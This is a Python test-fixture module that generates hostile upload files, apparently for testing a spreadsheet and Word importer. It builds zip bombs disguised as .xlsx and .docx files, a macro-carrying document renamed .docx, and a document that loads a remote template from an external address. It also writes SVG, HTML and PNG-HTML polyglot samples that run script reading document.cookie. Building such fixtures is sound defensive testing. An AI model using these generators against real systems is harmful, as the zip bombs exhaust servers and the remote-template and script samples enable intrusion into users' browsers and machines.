"""The bad-file corpus, built in code: each generator returns the bytes of one hostile or broken file.

Nothing large is committed; the zip bombs are a few hundred kilobytes that declare (or hold) gigabytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

HEADER = ["单位名称", "统一社会信用代码", "所属区", "联系人"]
ROWS = [
    ["乌海市海勃湾区坏文件测试协会", "", "海勃湾区", "张三"],
    ["乌海市乌达区坏文件测试商会", "", "乌达区", "李四"],
]
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run"
)
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
)


def csv_text(rows=ROWS, header=HEADER) -> str:
    return "\n".join(",".join(row) for row in [header, *rows]) + "\n"


# --- XLSX built by hand: the parts a workbook needs, so that sheets can be anything --------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
    'name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def _column(number: int) -> str:
    letters = ""
    while number > 0:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell(ref: str, value) -> str:
    if isinstance(value, int):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet_row(number: int, values) -> str:
    cells = "".join(
        cell(f"{_column(i)}{number}", value) for i, value in enumerate(values, start=1) if value != ""
    )
    return f'<row r="{number}">{cells}</row>'


def xlsx(sheet: bytes | None = None, *, extra: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A workbook whose one sheet is `sheet` (the XML), by default the standard two rows."""
    if sheet is None:
        rows = [sheet_row(1, HEADER)] + [sheet_row(n, row) for n, row in enumerate(ROWS, start=2)]
        sheet = SHEET_HEAD + "".join(rows).encode() + extra.encode() + SHEET_TAIL
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_rows(rows: list[list], *, merged: str = "") -> bytes:
    body = "".join(sheet_row(number, values) for number, values in enumerate(rows, start=1))
    merge = f'<mergeCells count="1"><mergeCell ref="{merged}"/></mergeCells>' if merged else ""
    return xlsx(SHEET_HEAD + body.encode() + b"</sheetData>" + merge.encode() + b"</worksheet>")


def _deflated_member(prefix: bytes, repeat: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """A raw deflate stream of prefix + repeat * times + suffix, its CRC and size, built quickly: each piece is
    compressed once and ends with a full flush (no reference back), so the repeated piece's bytes repeat."""

    def piece(data: bytes, last: bool = False) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(repeat, crc)
    crc = zlib.crc32(suffix, crc)
    stream = piece(prefix) + piece(repeat) * times + piece(suffix, last=True)
    return stream, crc, len(prefix) + len(repeat) * times + len(suffix)


def zip_bomb_xlsx(*, expanded_mb: int = 1100, declared_size: int | None = None) -> bytes:
    """A workbook whose sheet expands to `expanded_mb` MB of repeated rows; `declared_size` makes it lie."""
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 990 + b"</t></is></c></row>"
    chunk = row * 1024  # ~1 MB
    stream, crc, size = _deflated_member(SHEET_HEAD, chunk, expanded_mb, SHEET_TAIL)
    return _zip_with_raw_member(xlsx(SHEET_HEAD + SHEET_TAIL), "xl/worksheets/sheet1.xml", stream, crc,
                                size if declared_size is None else declared_size)  # fmt: skip


def zip_bomb_docx(*, expanded_mb: int = 1100) -> bytes:
    """A .docx whose document part expands to `expanded_mb` MB of zeros."""
    stream, crc, size = _deflated_member(b"", b"\x00" * (1024 * 1024), expanded_mb, b"")
    base = io.BytesIO()
    with zipfile.ZipFile(base, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return _zip_with_raw_member(base.getvalue(), "word/document.xml", stream, crc, size)


def _zip_with_raw_member(archive_bytes: bytes, name: str, stream: bytes, crc: int, size: int) -> bytes:
    """Copy an archive, replacing (or adding) `name` with an already deflated stream and the given sizes."""
    source = zipfile.ZipFile(io.BytesIO(archive_bytes))
    out = io.BytesIO()
    entries = []
    for info in source.infolist():
        if info.filename == name:
            continue
        data = source.read(info)
        entries.append((info.filename, zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data)))
    entries.append((name, stream, crc, size))
    central = []
    for filename, body, entry_crc, entry_size in entries:
        encoded = filename.encode()
        offset = out.tell()
        zip64 = entry_size >= 0xFFFFFFFF
        shown = 0xFFFFFFFF if zip64 else entry_size
        extra = struct.pack("<HHQQ", 1, 16, entry_size, len(body)) if zip64 else b""
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, 8, 0, 0, entry_crc,
                              0xFFFFFFFF if zip64 else len(body), shown, len(encoded), len(extra)))  # fmt: skip
        out.write(encoded + extra + body)
        extra_central = struct.pack("<HHQQ", 1, 16, entry_size, len(body)) if zip64 else b""
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 8, 0, 0, entry_crc,
                                   0xFFFFFFFF if zip64 else len(body), shown, len(encoded), len(extra_central),
                                   0, 0, 0, 0, offset) + encoded + extra_central)  # fmt: skip
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(
        struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0)
    )
    return out.getvalue()


def wide_xlsx(columns: int = 16_384) -> bytes:
    headers = HEADER + [f"列{i}" for i in range(len(HEADER) + 1, columns + 1)]
    return xlsx_rows([headers, ROWS[0]])


def million_rows_xlsx(rows: int = 1_000_000) -> bytes:
    body = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>r%d</t></is></c></row>' % (n, n, n)
        for n in range(2, rows + 1)
    )
    header = sheet_row(1, HEADER).encode()
    return xlsx(SHEET_HEAD + header + body + SHEET_TAIL)


def million_rows_csv(path: Path, rows: int = 1_000_000) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("单位名称,所属区\n")
        handle.writelines(f"乌海市测试单位{n},海勃湾区\n" for n in range(rows))
    return path


def docx(body: bytes = b"<w:document/>") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", body)
    return buffer.getvalue()


# --- Word files that act when opened, and a file that is two kinds at once -----------------------------------

_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="{main}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_BODY = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>\xe8\xaf\xb7\xe7\xa4\xba</w:t></w:r></w:p></w:body>'
    b"</w:document>"
)


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    )


def word_docx(*, main: str = DOCX_MAIN, parts: dict[str, bytes | str] | None = None) -> bytes:
    """A Word document python-docx opens, with any extra parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _DOCX_TYPES.format(main=main))
        archive.writestr(
            "_rels/.rels",
            _rels(
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/officeDocument" Target="word/document.xml"/>'
            ),
        )
        archive.writestr("word/document.xml", _BODY)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    """A macro-enabled document renamed .docx: its VBA project travels inside."""
    return word_docx(
        main=DOCM_MAIN,
        parts={
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
            "word/_rels/document.xml.rels": _rels(
                '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                ' Target="vbaProject.bin"/>'
            ),
        },
    )


def docx_with_macros_declared_plain() -> bytes:
    """The VBA part alone, the content types claiming a plain document."""
    return word_docx(parts={"word/vbaProject.bin": bytes(512)})


def docx_with_remote_template(url: str = "http://203.0.113.9/normal.dotm") -> bytes:
    """A document whose settings attach a template fetched from elsewhere when Word opens it."""
    return word_docx(
        parts={
            "word/settings.xml": (
                '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'
            ),
            "word/_rels/settings.xml.rels": _rels(
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                f'relationships/attachedTemplate" Target="{url}" TargetMode="External"/>'
            ),
        }
    )


def docx_with_web_link() -> bytes:
    """An ordinary document with a hyperlink to a website: an external relationship, but harmless."""
    return word_docx(
        parts={
            "word/_rels/document.xml.rels": _rels(
                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/hyperlink" Target="https://www.women.org.cn/" TargetMode="External"/>'
            )
        }
    )


# A PNG that is HTML too: a browser that guesses the type from the bytes after the image may run the script.
PNG_HTML = PNG + b"<html><body><script>alert(document.cookie)</script></body></html>"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
